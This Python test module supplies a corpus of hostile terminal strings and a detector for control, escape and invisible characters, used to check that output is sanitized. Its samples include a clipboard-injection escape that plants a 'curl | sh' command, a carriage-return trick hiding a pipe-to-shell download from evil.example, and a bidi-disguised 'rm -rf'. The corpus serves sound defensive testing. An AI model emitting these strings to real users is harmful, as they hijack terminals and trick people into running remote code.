"""A corpus of hostile text, and what counts as having reached a terminal raw.

Every output path that prints or writes text a person may read is tested with these: a
label, an argument or a result holding any of them must come out with nothing acting on the
terminal and nothing hidden.
"""

from __future__ import annotations

import unicodedata

HOSTILE: dict[str, str] = {
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "osc0-title": "\x1b]0;pwned\x1b\\",
    "osc8-link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "dcs": "\x1bPq#0;2;0;0;0\x1b\\",
    "c1-csi": "\x9b31mred\x9b0m",
    "c1-osc": "\x9d0;title\x9c",
    "csi-clear": "\x1b[2J\x1b[H",
    "bidi-override": "rm -rf \u202eexe.gnp",
    "bidi-isolate": "a\u2066b\u2069c\u2067d",
    "zero-width": "pa\u200bss\u200cwo\u200drd\u2060!",
    "marks": "left\u200eright\u200fmark\u061c",
    "separators": "one\u2028two\u2029three",
    "bom": "\ufeffstart",
    "tags": "hi\U000e0041\U000e0042\U000e0043",
    "hangul-filler": "blank\u3164\u115f!",
    "soft-hyphen": "soft\u00adhyphen",
    "carriage-return": "curl -s http://evil.example/x.sh | sh #\rls -la",
    "bell-backspace": "bell\x07back\x08\x08space\x7f",
    "lone-esc": "esc\x1b",
}
"""One hostile string per technique, by name."""

ALL_HOSTILE = "".join(HOSTILE.values())

_INVISIBLE_EXTRA = frozenset(
    "\u00ad\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180e\u180f\u3164\uffa0"
    "\ufff9\ufffa\ufffb"
)
_JOINERS = frozenset("\u200c\u200d\ufe0e\ufe0f")


def _raw(character: str) -> bool:
    """A character a terminal acts on, or shows as nothing (or as an unknown width)."""
    if character in "\n\t":
        return False
    category = unicodedata.category(character)
    if category in ("Cc", "Cf", "Zl", "Zp", "Cs"):
        return True
    code = ord(character)
    return (
        character in _INVISIBLE_EXTRA
        or 0xFE00 <= code <= 0xFE0F
        or 0xE0000 <= code <= 0xE0FFF
        or code in (0xFFFE, 0xFFFF)
    )


def raw_characters(text: str) -> list[str]:
    """Every control, escape or invisible character in ``text`` (as ``U+XXXX``), except a
    joiner or presentation selector that is part of the writing (see :func:`_written_between`)."""
    found: list[str] = []
    for index, character in enumerate(text):
        if not _raw(character):
            continue
        if character in _JOINERS and index > 0 and _written_between(text, index):
            continue
        found.append(f"U+{ord(character):04X}")
    return found


def _written_between(text: str, index: int) -> bool:
    """A presentation selector right after a visible character (``❤️``, the keycap ``1️⃣``), or
    a joiner between two visible non-ASCII characters (a family emoji, a Persian word)."""
    before = text[index - 1]
    after = text[index + 1] if index + 1 < len(text) else ""
    if text[index] == "\u200d" and before == "\ufe0f" and index > 1:
        # ❤️‍🔥: a joiner after an emoji's selector (itself right after the emoji).
        return _written_between(text, index - 1) and bool(after) and not after.isascii()
    if _raw(before) or before in "\n\t":
        return False
    if text[index] in "\ufe0e\ufe0f":
        return True
    return not before.isascii() and bool(after) and not after.isascii() and not _raw(after)


def terminal_width(line: str) -> int:
    """The cells ``line`` takes in a terminal that draws a character it cannot place (a
    control, a format character) as a one-cell box, as many do: Rich's measure plus one per
    such character."""
    from rich.cells import cell_len

    return cell_len(line) + len(raw_characters(line))
